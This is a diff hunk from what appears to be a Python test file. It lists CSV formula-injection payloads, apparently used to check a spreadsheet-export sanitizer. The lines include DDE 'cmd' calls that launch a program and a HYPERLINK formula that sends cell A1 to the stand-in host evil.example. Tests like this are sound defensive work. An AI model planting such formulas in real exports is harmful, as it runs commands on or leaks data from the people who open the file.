@@ -18,7 +18,7 @@ ROOT = Path(__file__).resolve().parents[2]
 # one past a quick check of the first character).
 FORMULAS = [
     "+cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
